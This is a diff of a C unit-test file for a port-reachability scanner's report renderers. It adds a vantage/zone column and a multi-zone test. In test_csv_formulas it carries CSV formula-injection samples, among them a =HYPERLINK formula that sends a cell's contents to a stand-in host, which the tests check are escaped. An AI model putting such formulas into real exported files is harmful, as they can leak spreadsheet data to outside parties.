@@ -216,13 +216,12 @@ START_TEST(test_csv)
 	for (line = strtok_r(s, "\n", &save); line != NULL; line = strtok_r(NULL, "\n", &save)) {
 		if (n == 0)
 			ck_assert_str_eq(
-			        line,
-			        "address,name,profile,role,proto,port,state,reason,rtt_us,"
-			        "ttl,probe,service,requirement,verdict,severity,ref,detail,seen,"
-			        "seen_detail");
+			        line, "address,name,profile,role,proto,port,vantage,state,reason,"
+			              "rtt_us,ttl,probe,service,requirement,verdict,severity,ref,"
+			              "detail,seen,seen_detail");
 		if (n == 2)
 			ck_assert_str_eq(
-			        line, "198.18.1.10,ms-primary,cisco-mediasense,primary,tcp,8440,"
+			        line, "198.18.1.10,ms-primary,cisco-mediasense,primary,tcp,8440,,"
 			              "filtered,no-response,0,0,,api-https,mandatory,blocked,high,"
 			              "\"Table 1, HTTPS TCP 8440\",\"tcp/8440 (API access, "
 			              "mandatory) is filtered from vantage any: a firewall between "
@@ -230,7 +229,7 @@ START_TEST(test_csv)
 		if (n == 6)
 			ck_assert_str_eq(
 			        line, "198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
-			              "5060,closed,rst,260,64,,sip-tcp,recommended,missing,medium,"
+			              "5060,,closed,rst,260,64,,sip-tcp,recommended,missing,medium,"
 			              "\"Table 1, SIP TCP 5060\",\"say \"\"no\"\", twice\",,");
 		n++;
 	}
@@ -240,7 +239,7 @@ START_TEST(test_csv)
 	r = fx_scan();
 	s = fx_render("csv", r, NULL);
 	ck_assert_ptr_nonnull(
-	        strstr(s, "\n198.18.0.2,,,,udp,53,open,udp-response,0,0,dns,,,,,,,,\n"));
+	        strstr(s, "\n198.18.0.2,,,,udp,53,,open,udp-response,0,0,dns,,,,,,,,\n"));
 	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 4);
 	free(s);
 	pp_result_free(r);
@@ -268,12 +267,12 @@ START_TEST(test_csv_formulas)
 	free(p->probe);
 	p->probe = strdup("+sip");
 	s = fx_render("csv", r, NULL);
-	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,open,udp-response,"
+	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,,open,udp-response,"
 	                                "1234,0,\"'+sip\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,"
 	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\",,\n"));
 	/* Numbers and the text of an ordinary row are untouched. */
 	ck_assert_ptr_nonnull(
-	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,open,syn-ack,222,64,,,,,,,,,\n"));
+	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,,open,syn-ack,222,64,,,,,,,,,\n"));
 	free(s);
 	pp_result_free(r);
 }
@@ -435,6 +434,65 @@ START_TEST(test_save_atomic)
 }
 END_TEST
 
+/* A result joined from two zones: a column per zone in text and HTML, the zone
+ * in the CSV, a JUnit testcase per (host, port, zone), one host list per zone in
+ * the nmap XML; and a zone no result covers, named everywhere as not a pass. */
+START_TEST(test_zones)
+{
+	struct pp_result *r = fx_zones(0);
+	char *s;
+
+	s = fx_render("text", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, ", from vantages any, cluster\n"));
+	ck_assert_ptr_nonnull(strstr(s,
+	                             "\n  PORT            SERVICE                  from any       "
+	                             "          from cluster\n"));
+	ck_assert_ptr_nonnull(strstr(s,
+	                             "\n  tcp/8443        cluster-https            open exposed  "
+	                             "           open pass\n"));
+	ck_assert_ptr_nonnull(strstr(s, "\n  tcp/8440        api-https                filtered "
+	                                "blocked         filtered blocked\n"));
+	ck_assert_ptr_null(strstr(s, "NOT VERIFIED"));
+	free(s);
+	s = fx_render("html", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "<section id=\"matrix\">"));
+	ck_assert_ptr_nonnull(strstr(s, "<th scope=\"col\">from cluster</th>"));
+	ck_assert_ptr_null(strstr(s, "id=\"heatmap\""));
+	free(s);
+	s = fx_render("csv", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "\n198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
+	                                "8443,any,open,syn-ack,"));
+	ck_assert_ptr_nonnull(strstr(s, "\n198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
+	                                "8443,cluster,open,syn-ack,"));
+	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 2 * 7);
+	free(s);
+	s = fx_render("junit", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "name=\"tcp/8443 cluster-https from cluster\""));
+	ck_assert_ptr_nonnull(strstr(s, "tests=\"14\" failures=\"7\""));
+	free(s);
+	s = fx_render("xml", r, NULL);
+	ck_assert_uint_eq(fx_count(s, "<host "), 4);
+	ck_assert_ptr_nonnull(strstr(s, "<hostname name=\"ms-primary from cluster\""));
+	free(s);
+	pp_result_free(r);
+
+	r = fx_zones(1);
+	ck_assert_uint_eq(r->nunverified, 1);
+	s = fx_render("text", r, NULL);
+	ck_assert_ptr_nonnull(strstr(
+	        s, "\nNOT VERIFIED from vantage cluster: no result covers it, 6 rows unchecked\n"));
+	free(s);
+	s = fx_render("junit", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "<failure type=\"unverified\" message=\"no result from "
+	                                "vantage cluster: 6 rows unverified from there\"/>"));
+	free(s);
+	s = fx_render("html", r, NULL);
+	ck_assert_ptr_nonnull(strstr(s, "Not verified from zone cluster"));
+	free(s);
+	pp_result_free(r);
+}
+END_TEST
+
 static Suite *
 report_suite(void)
 {
@@ -451,6 +509,7 @@ report_suite(void)
 	tcase_add_test(tc, test_csv_formulas);
 	tcase_add_test(tc, test_junit);
 	tcase_add_test(tc, test_xml);
+	tcase_add_test(tc, test_zones);
 	tcase_add_test(tc, test_save_atomic);
 	suite_add_tcase(s, tc);
 	return s;
